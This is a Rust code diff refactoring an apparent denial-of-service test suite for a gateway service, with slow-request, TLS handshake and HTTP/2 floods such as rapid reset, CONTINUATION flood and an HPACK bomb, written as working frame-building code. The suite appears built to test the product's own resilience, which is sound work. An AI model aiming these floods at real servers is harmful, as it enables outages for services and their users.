@@ -18,7 +18,17 @@ pub(super) struct Attack {
     pub(super) on: Attacked,
     /// Number of concurrent attackers, one thread each.
     pub(super) attackers: usize,
-    pub(super) run: fn(&Target, usize, &AtomicBool) -> Result<(), Failure>,
+    round: Round,
+}
+
+/// What an attacker does in one round.
+#[derive(Clone, Copy)]
+enum Round {
+    Do(fn(&Target, usize, &AtomicBool) -> Result<(), Failure>),
+    /// Sends frames of HTTP/2 for each stream, and reads nothing.
+    Flood(fn(&Target, u32) -> Vec<u8>),
+    /// Sends the first frames, and then the others for ever.
+    Begun(fn(&Target) -> Vec<u8>, fn() -> Vec<u8>),
 }
 
 /// The service that an attack calls.
@@ -32,16 +42,37 @@ pub(super) enum Attacked {
     AnotherAccountLimited,
 }
 
-const fn attack(
-    name: &'static str,
-    attackers: usize,
-    run: fn(&Target, usize, &AtomicBool) -> Result<(), Failure>,
-) -> Attack {
+impl Attack {
+    pub(super) fn run(
+        &self,
+        target: &Target,
+        number: usize,
+        stop: &AtomicBool,
+    ) -> Result<(), Failure> {
+        match self.round {
+            Round::Do(round) => round(target, number, stop),
+            Round::Flood(next) => {
+                let mut id = 1;
+                send(speak_http2(target, &[])?, stop, || {
+                    id += 2;
+                    next(target, id - 2)
+                })
+            }
+            Round::Begun(first, more) => {
+                let mut stream = speak_http2(target, &[])?;
+                stream.write_all(&first(target))?;
+                send(stream, stop, more)
+            }
+        }
+    }
+}
+
+const fn attack(name: &'static str, attackers: usize, round: Round) -> Attack {
     Attack {
         name,
         on: Attacked::TheirService,
         attackers,
-        run,
+        round,
     }
 }
 
@@ -49,114 +80,64 @@ const fn attack(
 const fn refusals_of(name: &'static str, on: Attacked) -> Attack {
     Attack {
         on,
-        ..attack(name, 4, refused_again)
+        ..attack(name, 4, Round::Do(refused_again))
     }
 }
 
 pub(super) const ATTACKS: &[Attack] = &[
-    attack("slow-hello", 1, slow_hello),
-    attack("slow-heads", 1, slow_heads),
-    attack("slow-bodies", 1, slow_bodies),
-    attack("slow-bodies-of-strangers", 1, slow_bodies_of_strangers),
-    attack("slow-readers", 8, slow_reader),
-    attack("idle-flood", 1, idle_flood),
-    attack("handshakes", 4, handshakes),
-    attack("abandoned-handshakes", 4, abandoned_handshakes),
-    attack("tiny-records", 4, tiny_records),
-    attack("key-updates", 4, key_updates),
-    attack("large-heads", 4, large_heads),
-    attack("refusals", 4, refusals),
+    attack("slow-hello", 1, Round::Do(slow_hello)),
+    attack("slow-heads", 1, Round::Do(slow_heads)),
+    attack("slow-bodies", 1, Round::Do(slow_bodies)),
+    attack(
+        "slow-bodies-of-strangers",
+        1,
+        Round::Do(slow_bodies_of_strangers),
+    ),
+    attack("slow-readers", 8, Round::Do(slow_reader)),
+    attack("idle-flood", 1, Round::Do(idle_flood)),
+    attack("handshakes", 4, Round::Do(handshakes)),
+    attack("abandoned-handshakes", 4, Round::Do(abandoned_handshakes)),
+    attack("tiny-records", 4, Round::Do(tiny_records)),
+    attack("key-updates", 4, Round::Do(key_updates)),
+    attack("large-heads", 4, Round::Do(large_heads)),
+    attack("refusals", 4, Round::Do(refusals)),
     refusals_of("refusals-without-agent", Attacked::AnotherAccount),
     refusals_of("refusals-by-limit", Attacked::AnotherAccountLimited),
-    attack("h2-refusals", 4, |target, _, stop| {
-        flood(target, stop, &[], |id| strangers_request(target, id))
-    }),
-    attack("h2-rapid-reset", 4, |target, _, stop| {
-        flood(target, stop, &[], |id| {
-            let mut frames = headers(target, id, END_STREAM);
-            frames.extend(frame(RST_STREAM, 0, id, &[0, 0, 0, 8]));
-            frames
-        })
-    }),
-    attack("h2-made-you-reset", 4, |target, _, stop| {
-        flood(target, stop, &[], |id| {
-            let mut frames = headers(target, id, END_STREAM);
-            // A WINDOW_UPDATE with increment 0 is a stream error (RFC 9113 §6.9).
-            frames.extend(frame(WINDOW_UPDATE, 0, id, &[0; 4]));
-            frames
-        })
-    }),
-    attack("h2-too-many-streams", 4, |target, _, stop| {
-        // A request that the gateway answers itself: requests that reach the backend delay its
-        // other callers by design.
-        let mut block = request("TRACE", &target.host, "/", Some(&target.service_key));
-        block.extend(remembered("max-forwards", "0"));
-        flood(target, stop, NO_WINDOW, move |id| {
-            http2::headers(id, END_STREAM, &block)
-        })
-    }),
-    attack("h2-no-window", 2, |target, _, stop| no_window(target, stop)),
-    attack("h2-ping", 4, |target, _, stop| {
-        flood(target, stop, &[], |_| frame(PING, 0, 0, &[7; 8]))
-    }),
-    attack("h2-settings", 4, |target, _, stop| {
-        flood(target, stop, &[], |_| frame(SETTINGS, 0, 0, &[]))
-    }),
-    attack("h2-window-updates", 4, |target, _, stop| {
-        flood(target, stop, &[], |_| {
-            frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])
-        })
-    }),
-    attack("h2-priority", 4, |target, _, stop| {
-        flood(target, stop, &[], |_| {
-            frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])
-        })
-    }),
-    attack("h2-unknown", 4, |target, _, stop| {
-        flood(target, stop, &[], |_| frame(UNKNOWN, 0, 0, &[]))
-    }),
-    attack("h2-empty-data", 4, |target, _, stop| {
-        begun(
-            target,
-            stop,
-            |target| headers_of(target, "POST", "/echo", 1, 0),
-            || frame(DATA, 0, 1, &[]),
-        )
-    }),
-    attack("h2-tiny-data", 4, |target, _, stop| {
-        begun(
-            target,
-            stop,
-            |target| headers_of(target, "POST", "/echo", 1, 0),
-            || frame(DATA, 0, 1, b"x"),
-        )
-    }),
-    attack("h2-continuation", 4, |target, _, stop| {
-        begun(
-            target,
-            stop,
-            |_| frame(HEADERS, 0, 1, &[0x87]),
-            || frame(CONTINUATION, 0, 1, &[]),
-        )
-    }),
-    attack("h2-hpack-bomb", 4, |target, _, stop| {
-        let bomb = [vec![LAST; 16_000], request("GET", &target.host, "/", None)].concat();
-        flood(target, stop, &[], move |id| {
-            let field = remembered("x", &"y".repeat(3_900));
-            let block = [&field[..], &bomb[..16_000 - field.len()]].concat();
-            http2::headers(id, END_STREAM, &block)
-        })
-    }),
-    attack("h2-large-heads", 4, |target, _, stop| {
-        let mut block = request("GET", &target.host, "/", None);
-        for _ in 0..12 {
-            block.extend([0x00, 1, b'x', 127, 0xe9, 0x07]);
-            block.extend(vec![b'y'; 127 + 0x69 + 7 * 128]);
-        }
-        flood(target, stop, &[], move |id| {
-            http2::headers(id, END_STREAM, &block)
-        })
-    }),
+    attack("h2-refusals", 4, Round::Flood(strangers_request)),
+    attack("h2-rapid-reset", 4, Round::Flood(rapid_reset)),
+    attack("h2-made-you-reset", 4, Round::Flood(made_you_reset)),
+    attack("h2-too-many-streams", 4, Round::Do(too_many_streams)),
+    attack("h2-no-window", 2, Round::Do(no_window)),
+    attack(
+        "h2-ping",
+        4,
+        Round::Flood(|_, _| frame(PING, 0, 0, &[7; 8])),
+    ),
+    attack(
+        "h2-settings",
+        4,
+        Round::Flood(|_, _| frame(SETTINGS, 0, 0, &[])),
+    ),
+    attack("h2-window-updates", 4, Round::Flood(window_update)),
+    attack("h2-priority", 4, Round::Flood(priority)),
+    attack(
+        "h2-unknown",
+        4,
+        Round::Flood(|_, _| frame(UNKNOWN, 0, 0, &[])),
+    ),
+    attack(
+        "h2-empty-data",
+        4,
+        Round::Begun(upload, || frame(DATA, 0, 1, &[])),
+    ),
+    attack(
+        "h2-tiny-data",
+        4,
+        Round::Begun(upload, || frame(DATA, 0, 1, b"x")),
+    ),
+    attack("h2-continuation", 4, Round::Begun(open_block, continuation)),
+    attack("h2-hpack-bomb", 4, Round::Flood(hpack_bomb)),
+    attack("h2-large-heads", 4, Round::Flood(large_block)),
 ];
 
 /// Bytes of one write.
@@ -190,30 +171,65 @@ fn speak_http2(target: &Target, settings: &[u8]) -> Result<Stream, Failure> {
     http2::begin(target.open(&[b"h2"])?, settings)
 }
 
-/// Sends `next` for each stream id until the product closes the connection. Reads nothing.
-fn flood(
-    target: &Target,
-    stop: &AtomicBool,
-    settings: &[u8],
-    next: impl Fn(u32) -> Vec<u8>,
-) -> Result<(), Failure> {
-    let mut id = 1;
-    send(speak_http2(target, settings)?, stop, || {
-        id += 2;
-        next(id - 2)
-    })
+fn rapid_reset(target: &Target, id: u32) -> Vec<u8> {
+    let reset = frame(RST_STREAM, 0, id, &[0, 0, 0, 8]);
+    [headers(target, id, END_STREAM), reset].concat()
 }
 
-/// Sends `first`, then `more` until the product closes the connection. Reads nothing.
-fn begun(
-    target: &Target,
-    stop: &AtomicBool,
-    first: fn(&Target) -> Vec<u8>,
-    more: fn() -> Vec<u8>,
-) -> Result<(), Failure> {
-    let mut stream = speak_http2(target, &[])?;
-    stream.write_all(&first(target))?;
-    send(stream, stop, more)
+/// A WINDOW_UPDATE with increment 0 is a stream error (RFC 9113 §6.9).
+fn made_you_reset(target: &Target, id: u32) -> Vec<u8> {
+    let update = frame(WINDOW_UPDATE, 0, id, &[0; 4]);
+    [headers(target, id, END_STREAM), update].concat()
+}
+
+fn window_update(_: &Target, _: u32) -> Vec<u8> {
+    frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])
+}
+
+fn priority(_: &Target, _: u32) -> Vec<u8> {
+    frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])
+}
+
+fn upload(target: &Target) -> Vec<u8> {
+    headers_of(target, "POST", "/echo", 1, 0)
+}
+
+/// A header block that does not end.
+fn open_block(_: &Target) -> Vec<u8> {
+    frame(HEADERS, 0, 1, &[0x87])
+}
+
+fn continuation() -> Vec<u8> {
+    frame(CONTINUATION, 0, 1, &[])
+}
+
+/// One long field, which is then named again and again.
+fn hpack_bomb(target: &Target, id: u32) -> Vec<u8> {
+    let request = request("GET", &target.host, "/", None);
+    let field = remembered("x", &"y".repeat(3_900));
+    let bomb = [field, vec![LAST; 16_000], request].concat();
+    http2::headers(id, END_STREAM, &bomb[..16_000])
+}
+
+fn large_block(target: &Target, id: u32) -> Vec<u8> {
+    let mut block = request("GET", &target.host, "/", None);
+    for _ in 0..12 {
+        block.extend([0x00, 1, b'x', 127, 0xe9, 0x07]);
+        block.extend(vec![b'y'; 127 + 0x69 + 7 * 128]);
+    }
+    http2::headers(id, END_STREAM, &block)
+}
+
+/// Requests that the gateway answers itself: those that reach the backend delay its other callers
+/// by design.
+fn too_many_streams(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
+    let mut block = request("TRACE", &target.host, "/", Some(&target.service_key));
+    block.extend(remembered("max-forwards", "0"));
+    let mut id = 1;
+    send(speak_http2(target, NO_WINDOW)?, stop, || {
+        id += 2;
+        http2::headers(id - 2, END_STREAM, &block)
+    })
 }
 
 fn send(
@@ -294,24 +310,33 @@ fn slow_heads(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failur
     )
 }
 
+/// Fewer than the agent has slots.
 fn slow_bodies(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
-    let head = |key: &str| {
-        format!(
-            "POST /echo HTTP/1.1\r\nHost: {}\r\n{key}Content-Length: 1000000\r\n\r\n",
-            target.host
-        )
-    };
-    let key = format!("X-Gw-Service-Key: {}\r\n", target.service_key);
-    // Fewer than the agent has slots.
-    drip(stop, 100, || begin(target, &head(&key)), b"x")
+    drip(
+        stop,
+        100,
+        || begin(target, &upload_head(target, true)),
+        b"x",
+    )
 }
 
 fn slow_bodies_of_strangers(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
-    let head = format!(
-        "POST /echo HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n",
-        target.host
-    );
-    drip(stop, 200, || begin(target, &head), b"x")
+    drip(
+        stop,
+        200,
+        || begin(target, &upload_head(target, false)),
+        b"x",
+    )
+}
+
+/// Head of a long upload, with or without the key.
+fn upload_head(target: &Target, has_key: bool) -> String {
+    let Target {
+        host, service_key, ..
+    } = target;
+    let key = has_key.then(|| format!("X-Gw-Service-Key: {service_key}\r\n"));
+    let key = key.unwrap_or_default();
+    format!("POST /echo HTTP/1.1\r\nHost: {host}\r\n{key}Content-Length: 1000000\r\n\r\n")
 }
 
 fn begin(target: &Target, head: &str) -> Result<Stream, Failure> {
@@ -369,13 +394,7 @@ fn abandoned_handshakes(target: &Target, number: usize, stop: &AtomicBool) -> Re
 
 /// A request with one byte per TLS record.
 fn tiny_records(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
-    let key = &target.service_key;
-    let head = format!(
-        "POST /echo HTTP/1.1\r\nHost: {}\r\nX-Gw-Service-Key: {key}\r\nContent-Length: 1000000\r\n\
-         \r\n",
-        target.host
-    );
-    let mut stream = begin(target, &head)?;
+    let mut stream = begin(target, &upload_head(target, true))?;
     for _ in 0..100_000 {
         stream.conn.writer().write_all(b"x")?;
         if stop.load(Ordering::Relaxed) {
@@ -434,7 +453,7 @@ fn refused_again(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Fai
 }
 
 /// As many requests as a connection may have, with a flow control window of 0 for the responses.
-fn no_window(target: &Target, stop: &AtomicBool) -> Result<(), Failure> {
+fn no_window(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
     let mut stream = speak_http2(target, NO_WINDOW)?;
     // Together fewer than the agent has slots.
     for number in 0..50 {
